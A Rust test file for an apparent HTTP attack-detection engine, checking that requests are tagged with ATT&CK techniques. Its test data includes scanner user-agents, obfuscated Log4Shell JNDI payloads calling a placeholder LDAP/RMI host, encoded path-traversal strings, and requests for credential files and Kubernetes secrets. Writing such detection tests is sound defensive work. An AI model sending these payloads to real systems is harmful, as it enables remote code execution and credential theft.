//! R0007 to R0009, R0036 and R0037 over HTTP.

use serde_json::{Value, json};

use super::{check, native, row};

fn get(url: &str) -> Value {
    native("http_request", json!({ "method": "GET", "raw_url": url }))
}

fn agent(agent: &str) -> Value {
    native("http_request", json!({ "method": "GET", "url": "/", "headers": { "User-Agent": agent } }))
}

/// DECNET says T1190 too; a scanner looks, and exploits nothing yet.
#[test]
fn scanners_by_their_name() {
    let names = [
        "sqlmap/1.7",
        "Nikto/2.1.6",
        "w3af.org",
        "Acunetix-Scanner",
        "Nessus SOAP",
        "OpenVAS 9",
        "WPScan v3",
    ];
    let mut rows: Vec<_> = names.iter().map(|name| row("R0007", agent(name), &["T1595.002@0.9"])).collect();
    // A list of names is what it tries.
    rows.push(row("R0007", agent("DirBuster-1.0"), &["T1595.003@0.9"]));
    rows.push(row(
        "R0007",
        native("http_request", json!({ "method": "GET", "url": "/", "user_agent": "SQLMAP" })),
        &["T1595.002@0.9"],
    ));
    rows.push(row("R0007", agent("Mozilla/5.0 (X11; Linux x86_64)"), &[]));
    check(rows);
}

#[test]
fn log4shell_in_every_dress() {
    check(
        [
            "/?x=${jndi:ldap://192.0.2.9/a}",
            "/?x=${jndi:ldaps://192.0.2.9/a}",
            "/?x=${jndi:rmi://192.0.2.9/a}",
            "/?x=${jndi:dns://192.0.2.9/a}",
            "/?x=${${lower:j}${lower:n}di:ldap://192.0.2.9/a}",
            "/?x=${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//192.0.2.9/a}",
            "/?x=$%7Bjndi:ldap://192.0.2.9/a%7D",
            "/?x=%2524%257Bjndi%253Aldap%253A//192.0.2.9/a%257D",
        ]
        .map(|url| row("R0008", get(url), &["T1190@0.95"]))
        .into_iter()
        .chain([row("R0008", agent("${jndi:ldap://192.0.2.9/a}"), &["T1190@0.95"])])
        .chain([row("R0008", get("/?x=${name}"), &[])])
        .collect(),
    );
}

#[test]
fn paths_that_leave_their_folder() {
    check(
        [
            "/../../x",
            "/a/%2e%2e/%2e%2e/x",
            "/..%2f..%2fx",
            "/%2e%2e%2f%2e%2e%2fx",
            "/../x",
            "/%252e%252e%252fx",
            "/..%c0%afx",
        ]
        .map(|url| row("R0009", get(url), &["T1190@0.85"]))
        .into_iter()
        .chain([row("R0009", get("/a..b/c"), &[])])
        .collect(),
    );
}

#[test]
fn credentials_asked_for() {
    check(vec![
        row("R0036", get("/.env"), &["T1552.001@0.9"]),
        row("R0036", get("/.git/config"), &["T1552.001@0.9"]),
        row("R0036", get("/.aws/credentials"), &["T1552.001@0.9"]),
        row("R0036", get("/wp-config.php"), &["T1552.001@0.85"]),
        // DECNET says T1552.001; private keys are T1552.004.
        row("R0036", get("/.ssh/id_rsa"), &["T1552.004@0.9"]),
        row("R0036", get("/environment"), &[]),
        row("R0037", get("/api/v1/namespaces/default/secrets"), &["T1552.007@0.95"]),
        row("R0037", get("/x?f=/var/run/secrets/kubernetes.io/serviceaccount/token"), &["T1552.007@0.95"]),
        row("R0037", get("/api/v1/namespaces"), &["T1613@0.85"]),
    ]);
}
